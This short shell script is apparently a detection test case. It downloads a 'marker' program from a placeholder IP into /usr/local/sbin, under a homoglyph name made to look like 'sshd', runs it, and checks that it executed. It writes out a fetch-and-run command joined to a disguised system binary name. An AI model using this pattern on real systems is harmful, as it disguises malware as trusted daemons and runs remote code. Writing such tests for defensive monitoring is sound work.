#!/bin/sh
. /opt/case/case.sh

name=/usr/local/sbin/s$(printf '\321\225')hd
mkdir -p /usr/local/sbin
curl -s http://203.0.113.10/programs/marker -o "$name"
chmod 755 "$name"
"$name"
test -e /tmp/reached
took_place
